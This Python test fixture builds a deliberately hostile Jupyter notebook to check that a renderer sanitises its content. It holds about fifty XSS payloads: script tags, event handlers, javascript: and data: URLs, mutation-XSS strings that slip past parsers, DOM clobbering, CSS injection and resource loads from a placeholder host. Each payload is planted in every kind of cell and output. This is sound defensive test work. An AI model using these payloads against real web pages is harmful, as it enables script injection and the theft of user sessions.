"""A notebook that means harm: pieces of HTML that run, load or break out where they are not stopped."""

from __future__ import annotations

from typing import Any

from cli_world import executed, printed, ran
from nbformat.v4 import new_markdown_cell, new_output, new_raw_cell

RUN = "window.pwned=1;parent.postMessage('pwned','*')"
AWAY = "http://canary.invalid/"

PIECES = (
    # scripts
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC={AWAY}x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</pre></div></section><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title></textarea></noscript><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>--><!-- --!><img src=x onerror={RUN}>",
    # event handlers
    f"<img src=x onerror={RUN}>",
    f"<img src='x' onerror='{RUN}' alt='\"><script>{RUN}</script>'>",
    f"<body onload={RUN}><details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}><video onerror={RUN}><source src=x></video>",
    f"<div onpointerenter={RUN} style='position:fixed;inset:0;z-index:99999;opacity:0'>x</div>",
    f"<marquee onstart={RUN}>x</marquee><a onclick={RUN} href=#>x</a>",
    # addresses
    f"<a href=\"javascript:{RUN}\">x</a><a href=' java\tscript:{RUN}'>x</a><a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a><a href='vbscript:x'>x</a><a href='/admin?delete=1'>x</a>",
    f"[x](javascript:{RUN}) ![x](javascript:{RUN}) <javascript:{RUN}> [x](data:text/html;base64,PHNjcmlwdD4=)",
    f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src={AWAY}></iframe><object data={AWAY}></object><embed src={AWAY}><frameset><frame src={AWAY}>",
    f"<img src={AWAY}x.png srcset='{AWAY}y.png 2x'><picture><source srcset={AWAY}z.png><img></picture>",
    f"<img src='data:text/html,<script>{RUN}</script>'><img src='//canary.invalid/x.png'><img lowsrc={AWAY}>",
    f"<table background={AWAY}><tr><td background={AWAY}>x</td></tr></table><body background={AWAY}>",
    f"<video src={AWAY} poster={AWAY}></video><audio src={AWAY}></audio><track src={AWAY}>",
    # the page itself
    f"<meta http-equiv=refresh content='0;url={AWAY}'><base href={AWAY}><link rel=stylesheet href={AWAY}x.css>",
    f"<link rel=prefetch href={AWAY}><link rel=preconnect href={AWAY}><meta http-equiv=Set-Cookie content=a=b>",
    f"<form action={AWAY} id=login><input name=password><button formaction={AWAY}>x</button></form>",
    "<a id=nb name=location>x</a><img name=cookie><form name=document><input name=cookie></form>",
    # style
    f"<style>@import url({AWAY}x.css); body{{display:none}}</style>",
    f"<div style='background:url({AWAY});position:fixed;inset:0'>x</div><p style='width:expression({RUN})'>x</p>",
    f"<div style='background-color:url({AWAY})'>x</div><div style=\"color:red;}}body{{display:none\">x</div>",
    "<div class='nb-header nbx-banner bk-Tooltip'>x</div><div id=c1>x</div>",
    # SVG and MathML
    f"<svg onload={RUN}><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a><use href='{AWAY}#x'/><image href='{AWAY}'/></svg>",
    f"<svg><foreignObject><iframe src='javascript:{RUN}'></iframe></foreignObject></svg>",
    f"<math href='javascript:{RUN}'><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    # mutation: harmless as written, something else when a browser has read it
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
    f"<template><img src=x onerror={RUN}></template><xmp><img src=x onerror={RUN}></xmp>",
    f"<select><template><style><a title='</style><img src=x onerror={RUN}>'></template></select>",
    f"<table><td><script>{RUN}</script><tr><svg><desc><td><title><img src=x onerror={RUN}></title></desc></svg>",
    # broken
    f"<img src=x onerror={RUN}//",
    f"<<img src=x onerror={RUN}>>",
    f"<img/src=`x`onerror={RUN}><img\x0csrc=x\x0conerror={RUN}>",
    f"<a title='&lt;/a&gt;&lt;img src=x onerror={RUN}&gt;'>x</a>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\x00<scr\x00ipt>{RUN}</scr\x00ipt>\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07\x1b[31m<img src=x onerror={RUN}>",
    "\ud800\udfff\u202e\u2028\ufffe" + f"<img src=x onerror={RUN}>",
    "<div>" * 3000 + f"<img src=x onerror={RUN}>",
    "<table><tr><td>" * 400 + f"<script>{RUN}</script>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\unicode{{x}}$ \\(\\style{{background:url({AWAY})}}{{x}}\\)",
)

SVG = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'><script>{RUN}</script><image href='{AWAY}x.png'/>"
    f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject></svg>"
)

MIMES = ("text/html", "text/markdown", "text/latex", "text/plain", "image/png", "image/jpeg", "image/svg+xml")


def everywhere(piece: str) -> list[Any]:
    """Cells that have a piece wherever a notebook can have text."""
    shown = [new_output("display_data", data={mime: piece}) for mime in (*MIMES, piece)]
    active = ("application/javascript", "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json")
    return [
        new_markdown_cell(piece),
        new_markdown_cell(f"text {piece} text", attachments={piece: {"image/png": piece, piece: piece}}),
        new_raw_cell(piece),
        ran(f"# {piece}", printed(piece), printed(piece, "stderr"), *shown),
        ran("x", new_output("error", ename=piece, evalue=piece, traceback=[piece]), state=piece),
        ran("x", *(new_output("display_data", data={mime: piece, "text/plain": piece}) for mime in active)),
        ran("x", new_output("display_data", data={"image/svg+xml": SVG, "text/plain": piece})),
    ]


def hostile_notebook() -> Any:
    notebook = executed(*(cell for piece in PIECES for cell in everywhere(piece)), language=PIECES[0])
    for cell in notebook.cells[::7]:
        cell.metadata["nbflow"] = {"cell": PIECES[0], "state": PIECES[1], "seconds": PIECES[2]}
    return notebook
